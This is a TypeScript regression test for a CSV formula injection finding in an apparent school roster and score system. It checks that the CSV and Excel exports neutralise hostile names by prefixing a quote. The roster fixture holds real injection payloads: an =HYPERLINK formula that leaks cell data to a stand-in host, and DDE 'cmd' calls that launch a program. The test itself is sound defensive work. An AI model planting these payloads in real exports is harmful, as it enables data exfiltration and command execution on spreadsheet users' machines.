import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signInto, type Signed } from '../support/card-fixtures';
import { createSchool } from '../support/fixtures';
import { SCAN_PERMISSIONS, storeScanCard } from '../support/scan-fixtures';
import { legacyUpload, trpcCall } from '../support/school-admin';
import { legacyFile, seedAnswers } from '../support/score-fixtures';
import { legacy, startTestApp, type TestApp } from '../support/test-app';

// Issue 27, "CSV formula injection": the payloads of the finding, imported through the roster
// import as names and student numbers, come back from every export unable to run: the scores CSV
// checked byte by byte, the scores workbook and the roster export cell by cell; and the roster
// export imported back gives the very names it was made from.

const ROSTER = [
  { number: '=1+1', name: '=HYPERLINK("http://x.example/?leak="&B2,"點我")' },
  { number: '+1+1', name: "=cmd|' /C calc'!A0" },
  { number: '-2+3', name: "@SUM(1+1)*cmd|' /C calc'!A0" },
  { number: '＝2+2', name: '＋林小明' },
  { number: 'S5', name: '-2+3' },
  { number: '＠6', name: '－陳' },
];

let app: TestApp;
let admin: Signed;
let teacher: Signed;
let card = { id: 0, guid: '' };

const csvQuoted = (text: string) => (/[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text);

beforeAll(async () => {
  app = await startTestApp();
  const school = await createSchool(app.deps.db, {}, [...SCAN_PERMISSIONS, 'students.manage']);
  admin = await signInto(app, school.id, school.code, 'school_admin', []);
  teacher = await signInto(app, school.id, school.code, 'teacher', SCAN_PERMISSIONS);
  const csv = ['年級,班級,座號,學號,姓名', ...ROSTER.map((s, i) => `1,1,${i + 1},${csvQuoted(s.number)},${csvQuoted(s.name)}`)].join('\r\n');
  const imported = await legacyUpload(app, 'client', { method: 'import', action: 'students' }, { name: 'roster.csv', body: Buffer.from(csv) }, admin.token);
  expect(imported.status, imported.body.message).toBe(200);
  card = await storeScanCard(app.deps.db, app.deps.storage, teacher, '期中考');
  const students = await app.deps.db.selectFrom('students').select(['id', 'seat']).where('client_id', '=', teacher.schoolId).orderBy('seat').execute();
  const owner = { clientId: teacher.schoolId, userId: teacher.userId, documentId: card.id };
  await seedAnswers(app.deps.db, owner, students.map((s) => ({ studentId: s.id, answers: { 1: 'A', 2: 'B', 3: 'C', 4: 'AC', 5: 'D' } })));
  const key = { 1: { answer: 'A' }, 2: { answer: 'B' }, 3: { answer: 'C' }, 4: { answer: 'AC' }, 5: { answer: 'D' } };
  expect((await legacy(app, 'cards', { method: 'save', action: 'answerKey', guid: card.guid, key }, teacher.token)).status).toBe(200);
}, 60_000);
afterAll(() => app.close());

describe('exports cannot run formulas', () => {
  it('imports the payloads as they are', async () => {
    const rows = await app.deps.db.selectFrom('students').select(['number', 'name']).where('client_id', '=', teacher.schoolId).orderBy('seat').execute();
    expect(rows).toEqual(ROSTER);
  });

  it('writes every such cell of the scores CSV with a quote in front, byte by byte; numbers stay numbers', async () => {
    const file = await legacyFile(app, { method: 'download', action: 'scores', guid: card.guid, format: 'csv', grade: 1, class: 1 }, teacher.token);
    expect(file.status).toBe(200);
    const expected = [
      '\ufeff學號,姓名,年級,班級,座號,分數,滿分',
      `'=1+1,"'=HYPERLINK(""http://x.example/?leak=""&B2,""點我"")",1,1,1,5,5`,
      `'+1+1,'=cmd|' /C calc'!A0,1,1,2,5,5`,
      `'-2+3,'@SUM(1+1)*cmd|' /C calc'!A0,1,1,3,5,5`,
      `'＝2+2,'＋林小明,1,1,4,5,5`,
      `S5,'-2+3,1,1,5,5,5`,
      `'＠6,'－陳,1,1,6,5,5`,
      '',
    ].join('\r\n');
    expect(file.bytes.equals(Buffer.from(expected, 'utf8')), file.bytes.toString('utf8')).toBe(true);
  });

  it('writes them quoted in the scores workbook too, scores and seats as number cells', async () => {
    const file = await legacyFile(app, { method: 'download', action: 'scores', guid: card.guid, format: 'xlsx' }, teacher.token);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(file.bytes as unknown as ArrayBuffer);
    const sheet = workbook.getWorksheet('1年1班')!;
    ROSTER.forEach((s, i) => {
      const row = sheet.getRow(4 + i);
      expect(row.getCell(2).value).toBe(s.number === 'S5' ? 'S5' : `'${s.number}`);
      expect(row.getCell(3).value).toBe(`'${s.name}`);
      expect(row.getCell(1).value).toBe(i + 1);
      expect(typeof row.getCell(9).value).toBe('number'); // the score
    });
    // No cell is a formula, and none reads like one (its text as Excel shows it).
    workbook.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => {
      expect([cell.formula, cell.text]).not.toSatisfy(([formula, text]: [string | undefined, string]) => formula !== undefined || /^[=+\-@\t\r＝＋－＠]/.test(text));
    })));
  });

  it('quotes them in the roster export, and that export imported back gives the same roster', async () => {
    const exported = await trpcCall(app, 'students.export', 'mutation', {}, admin.token);
    const body = Buffer.from((exported.data as { base64: string }).base64, 'base64');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(body as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0];
    ROSTER.forEach((s, i) => {
      expect(sheet.getRow(2 + i).getCell(4).value).toBe(s.number === 'S5' ? 'S5' : `'${s.number}`);
      expect(sheet.getRow(2 + i).getCell(5).value).toBe(`'${s.name}`);
    });
    const again = await legacyUpload(app, 'client', { method: 'import', action: 'students' }, { name: 'roster.xlsx', body }, admin.token);
    expect(again.status, again.body.message).toBe(200);
    const rows = await app.deps.db.selectFrom('students').select(['number', 'name']).where('client_id', '=', teacher.schoolId).orderBy('seat').execute();
    expect(rows).toEqual(ROSTER);
  });
});
